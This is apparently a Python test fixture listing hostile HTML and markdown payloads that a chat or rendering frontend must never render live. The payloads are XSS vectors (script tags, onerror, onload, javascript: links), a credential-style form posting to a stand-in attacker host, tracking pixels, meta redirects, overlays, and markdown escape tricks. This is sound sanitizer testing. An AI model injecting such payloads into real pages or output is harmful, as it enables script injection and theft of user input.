"""Hostile HTML a model, a backend or a user may send: none of it may render live (issue 9, item 2).

``ATTACKER`` is a host no test serves; a request to it from the page is a failure.
"""

ATTACKER = "http://attacker.invalid:9"

PAYLOADS: tuple[str, ...] = (
    f'<form action="{ATTACKER}/steal"><input name="q" placeholder="type here"><button>Go</button></form>',
    f'<iframe src="{ATTACKER}/frame"></iframe>',
    f'<img src="{ATTACKER}/img.png" onerror="alert(1)">',
    '<div style="position:fixed;inset:0;background:red" onclick="alert(1)">overlay</div>',
    "<script>alert(1)</script>",
    "<style>body{display:none}</style>",
    '<a href="javascript:alert(1)">click</a>',
    f'<svg onload="alert(1)"><image href="{ATTACKER}/svg.png"/></svg>',
    f'<meta http-equiv="refresh" content="0;url={ATTACKER}/meta">',
    f'<link rel="stylesheet" href="{ATTACKER}/x.css">',
    '<textarea>x</textarea><select><option>o</option></select>',
    f'<object data="{ATTACKER}/o"></object><embed src="{ATTACKER}/e">',
    '<details open ontoggle="alert(1)"><summary>s</summary>d</details>',
    f"![pixel]({ATTACKER}/md.png)",
    f"<{ATTACKER}/autolink>",
    "</details></details><form><input></form>",
    "`x` <b style='color:red'>styled</b> `<button>in code</button>`",
    f'\\`<form action="{ATTACKER}/esc"><input></form>`',
    f'a ```\n\n<form action="{ATTACKER}/fence"><input>\n\n``` b',
    "<!-- comment --><?php x ?><![CDATA[y]]>",
)
